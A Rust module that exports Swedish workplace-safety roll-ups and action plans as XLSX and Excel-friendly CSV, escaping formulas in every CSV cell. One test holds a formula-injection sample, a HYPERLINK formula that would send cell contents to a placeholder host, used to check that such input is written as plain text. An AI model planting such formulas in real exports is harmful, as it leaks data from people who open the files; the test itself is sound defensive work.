//! The roll-ups as tables for the cooperation group's minutes: the same rows as an XLSX workbook
//! (rust_xlsxwriter) and as CSV (semicolon-separated with a byte order mark, as Swedish Excel
//! opens it). Column names follow the seed's attachments.

use app::actions::{ActionOrigin, ActionRollupView};
use app::checklists::{RollupView, UnitState};
use app::domain::spreadsheet_cell::neutralise;
use app::domain::{ActionSource, ActionStatus, Effect};
use rust_xlsxwriter::{Format, Workbook, XlsxError};

/// A sheet: a name, column headers and text rows.
pub struct Table {
    /// The sheet's name (at most 31 characters).
    pub name: &'static str,
    /// The column headers.
    pub headers: Vec<&'static str>,
    /// The rows.
    pub rows: Vec<Vec<String>>,
}

fn status_sv(status: ActionStatus) -> &'static str {
    match status {
        ActionStatus::NotStarted => "Ej påbörjad",
        ActionStatus::InProgress => "Pågående",
        ActionStatus::Done => "Avslutad",
    }
}

fn source_sv(source: ActionSource) -> &'static str {
    match source {
        ActionSource::Meeting => "APT",
        ActionSource::Checklist => "Checklista",
        ActionSource::Round => "Skyddsrond",
        ActionSource::RiskAssessment => "Riskbedömning",
        ActionSource::EmployeeSurvey => "Medarbetarenkät",
        ActionSource::Incident => "Tillbud eller arbetsskada",
        ActionSource::Other => "Annat",
    }
}

fn effect_sv(effect: Effect) -> &'static str {
    match effect {
        Effect::Yes => "Ja",
        Effect::Partly => "Delvis",
        Effect::No => "Nej",
    }
}

/// "Analys – årlig uppföljning": a row per unit's answer, and the units' standing.
pub fn rollup_tables(rollup: &RollupView) -> Vec<Table> {
    let period = rollup.year.to_string();
    let mut rows = Vec::new();
    for q in &rollup.questions {
        if q.answers.is_empty() {
            rows.push(vec![
                q.area.clone(),
                format!("{}. {}", q.number, q.text),
                String::new(),
                String::new(),
                period.clone(),
                String::new(),
            ]);
        }
        for a in &q.answers {
            rows.push(vec![
                q.area.clone(),
                format!("{}. {}", q.number, q.text),
                a.unit_name.clone(),
                a.answer.label().to_string(),
                period.clone(),
                a.analysis.clone(),
            ]);
        }
    }
    let units = rollup
        .units
        .iter()
        .map(|u| {
            let (state, answered, done) = match &u.state {
                UnitState::NotStarted => {
                    ("Inte påbörjad".to_string(), String::new(), String::new())
                }
                UnitState::InProgress { answered, total } => (
                    "Påbörjad".to_string(),
                    format!("{answered} av {total}"),
                    String::new(),
                ),
                UnitState::Done(day) => ("Klar".to_string(), String::new(), day.to_string()),
            };
            vec![u.name.clone(), state, answered, done]
        })
        .collect();
    vec![
        Table {
            name: "Analys",
            headers: vec!["Område", "Fråga", "Enhet", "Svar", "Period", "Analys"],
            rows,
        },
        Table {
            name: "Enheter",
            headers: vec!["Enhet", "Checklistan besvarad?", "Besvarade", "Klar"],
            rows: units,
        },
        analysis_table(rollup),
    ]
}

/// "Analys till rapport": the node's own analysis under seed 002's three headings.
fn analysis_table(rollup: &RollupView) -> Table {
    let a = &rollup.analysis;
    let texts = [&a.improvements, &a.success_factors, &a.previous_year];
    Table {
        name: "Analys till rapport",
        headers: vec!["Enhet", "Rubrik", "Analys"],
        rows: app::domain::ANALYSIS_HEADINGS
            .into_iter()
            .zip(texts)
            .map(|(heading, text)| {
                vec![rollup.node_name.clone(), heading.to_string(), text.clone()]
            })
            .collect(),
    }
}

/// "Åtgärder från checklistor": every field of the action plan, a row per action.
pub fn action_table(plan: &ActionRollupView) -> Table {
    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
    let rows = plan
        .actions
        .iter()
        .map(|a| {
            let (link, question) = match &a.origin {
                ActionOrigin::Meeting { day, .. } => (format!("APT {day}"), String::new()),
                ActionOrigin::Checklist {
                    checklist,
                    question,
                    ..
                } => (checklist.clone(), question.clone()),
                ActionOrigin::Other { source, note } if note.is_empty() => {
                    (source_sv(*source).to_string(), String::new())
                }
                ActionOrigin::Other { source, note } => {
                    (format!("{}: {note}", source_sv(*source)), String::new())
                }
            };
            vec![
                link,
                question,
                a.answer.map(|x| x.label().to_string()).unwrap_or_default(),
                a.title.clone(),
                status_sv(a.status).to_string(),
                a.unit_name.clone(),
                a.responsible.clone().unwrap_or_default(),
                a.description.clone(),
                date(a.start),
                date(a.end),
                a.comment.clone(),
                a.effect
                    .map(|e| effect_sv(e).to_string())
                    .unwrap_or_default(),
                a.effect_comment.clone(),
            ]
        })
        .collect();
    Table {
        name: "Åtgärder",
        headers: vec![
            "Koppling till",
            "Fråga",
            "Resultat",
            "Åtgärd",
            "Status",
            "Enhet",
            "Rapporteringsansvarig",
            "Beskrivning",
            "Startdatum",
            "Slutdatum",
            "Kommentar",
            "Avsedd effekt",
            "Kommentar om effekten",
        ],
        rows,
    }
}

/// The tables as one workbook, a sheet each, headers bold and frozen.
pub fn xlsx(tables: &[Table]) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let wrap = Format::new().set_text_wrap();
    for table in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(table.name)?;
        for (c, header) in table.headers.iter().enumerate() {
            let c = u16::try_from(c).unwrap_or(u16::MAX);
            sheet.write_string_with_format(0, c, *header, &bold)?;
            sheet.set_column_width(c, 24)?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(r + 1).unwrap_or(u32::MAX);
            for (c, cell) in row.iter().enumerate() {
                let c = u16::try_from(c).unwrap_or(u16::MAX);
                sheet.write_string_with_format(r, c, cell, &wrap)?;
            }
        }
        sheet.set_freeze_panes(1, 0)?;
    }
    book.save_to_buffer()
}

/// The first table as CSV for Swedish Excel: `;`-separated, UTF-8 with a byte order mark, every
/// cell neutralised against formulas (`domain::spreadsheet_cell`). Every CSV is written here.
pub fn csv(table: &Table) -> Result<Vec<u8>, csv::Error> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(&mut out);
        writer.write_record(&table.headers)?;
        for row in &table.rows {
            // Nothing a person typed may run as a formula in the spreadsheet that opens this.
            writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned()))?;
        }
        writer.flush()?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        Table {
            name: "Analys",
            headers: vec!["Enhet", "Analys"],
            rows: vec![vec!["Hemtjänst Norr".into(), "Tas upp; på APT".into()]],
        }
    }

    #[test]
    fn csv_is_semicolon_separated_with_a_bom_and_quotes_what_needs_it() {
        let text = String::from_utf8(csv(&table()).unwrap()).unwrap();
        assert_eq!(
            text,
            "\u{feff}Enhet;Analys\nHemtjänst Norr;\"Tas upp; på APT\"\n"
        );
    }

    #[test]
    fn a_cell_that_would_run_as_a_formula_is_written_as_text() {
        let evil = Table {
            name: "Åtgärder",
            headers: vec!["Åtgärd", "Ansvarig"],
            rows: vec![vec![
                "=HYPERLINK(\"http://x.example/?\"&A1,\"klicka\")".into(),
                "@SUM(A1)".into(),
            ]],
        };
        let text = String::from_utf8(csv(&evil).unwrap()).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert_eq!(
            row,
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klicka\"\")\";'@SUM(A1)"
        );
    }

    #[test]
    fn xlsx_is_a_workbook() {
        let bytes = xlsx(&[table()]).unwrap();
        assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip archive");
    }
}
